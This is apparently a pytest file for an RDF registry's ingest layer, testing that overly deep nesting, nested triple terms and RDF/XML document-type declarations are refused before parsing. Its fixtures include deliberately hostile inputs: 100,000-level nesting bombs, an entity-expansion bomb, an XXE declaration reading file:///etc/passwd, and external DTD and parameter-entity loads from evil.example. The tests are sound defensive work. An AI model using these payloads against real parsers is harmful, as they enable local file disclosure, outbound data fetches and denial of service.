"""Depth: what people write passes, what would break a parser does not reach it."""

import pytest

from registry.formats import Format
from registry.ingest.nesting import refuse_deep_nesting
from tests.registry.ingest.publishing import JSON_LD, PROJECT, RDF_XML, TURTLE, publish, refusal

LEVELS = 100_000
XML = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:b="https://buddy.example/">'


@pytest.mark.parametrize(
    ("media_type", "text"),
    [
        (TURTLE, "<#a> <#b> " + "[ <#b> " * LEVELS),
        (TURTLE, "<#a> <#b> " + "(" * LEVELS + ")" * LEVELS + " ."),
        ("application/trig", "{" * LEVELS),
        (JSON_LD, "[" * LEVELS + "]" * LEVELS),
        (JSON_LD, '{"https://buddy.example/b":' * LEVELS + "1" + "}" * LEVELS),
        (RDF_XML, XML + "<b:T><b:p>" * LEVELS),
    ],
    ids=["blank nodes", "collections", "graphs", "JSON lists", "JSON objects", "XML elements"],
)
def test_a_document_nested_too_deeply_is_refused_before_it_is_parsed(media_type: str, text: str) -> None:
    error = refusal(text, media_type)

    assert error.code == "nested-too-deeply"
    assert "more than 64 levels deep" in error.message
    assert error.line == 1
    assert "Give the inner things names (IRIs)" in error.message


@pytest.mark.parametrize(
    ("format_", "text"),
    [
        (Format.TURTLE, '<#a> <#b> """[[[ " [[[""", \'[[[\', "\\"[[[" ; <#c[[[> <#d> . # [[['),
        (Format.TURTLE, "a:b\\(\\(\\( a '''(((''' ."),
        (Format.JSON_LD, '{"a": "[[[{{{ \\" [[["}'),
        (Format.TURTLE, "<#a> <#b> [], [], [], [] ."),
    ],
    ids=["strings, IRIs and comments", "escapes", "JSON strings", "one after another"],
)
def test_brackets_that_open_nothing_do_not_count(format_: Format, text: str) -> None:
    refuse_deep_nesting(text, format_, depth=2)


def test_people_may_nest_as_deeply_as_people_do() -> None:
    nested = "<#a> <#b> " + "[ <#b> " * 20 + "1" + " ]" * 20 + " ."

    assert len(publish(nested).graph) == 21


@pytest.mark.parametrize(
    "text", ["<<( <#a> <#b> <#c> )>> <#d> 1 .", PROJECT + "\n<< <#a> <#b> <#c> >> <#d> 1 ."]
)
def test_a_statement_inside_a_statement_is_refused_with_its_place(text: str) -> None:
    error = refusal(text)

    assert error.code == "triple-term"
    assert f"Line {text.count(chr(10)) + 1}, column 1" in error.message
    assert "Describe it with a resource of its own" in error.message


def test_deep_statements_inside_statements_do_not_reach_the_parser() -> None:
    deep = "<#a> <#b> " + "<<( <#a> <#b> " * LEVELS

    assert refusal(deep, "application/n-triples").code == "triple-term"


@pytest.mark.parametrize(
    "start",
    [
        '<!DOCTYPE rdf:RDF [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE rdf:RDF SYSTEM "file:///etc/passwd">',
        '<?xml version="1.0"?>\n<!doctype rdf:RDF PUBLIC "x" "https://evil.example/x.dtd">',
        '<!-- \n --><!DOCTYPE rdf:RDF [<!ENTITY % p SYSTEM "https://evil.example/"> %p;]>',
    ],
    ids=["entity bomb", "local file", "outside document type", "parameter entity"],
)
def test_rdf_xml_with_a_document_type_or_entities_is_refused(start: str) -> None:
    error = refusal(f"{start}{XML}</rdf:RDF>", RDF_XML)

    assert error.code == "document-type-declared"
    assert "declares a document type or an entity" in error.message
    assert "Remove the declaration" in error.message


def test_broken_rdf_xml_is_refused_with_its_place() -> None:
    error = refusal(f"{XML}\n<b:T>\n</b:S></rdf:RDF>", RDF_XML)

    assert (error.code, error.line) == ("syntax-broken", 3)
    assert "not valid RDF/XML" in error.message
    assert "“</b:S></rdf:RDF>”" in error.message
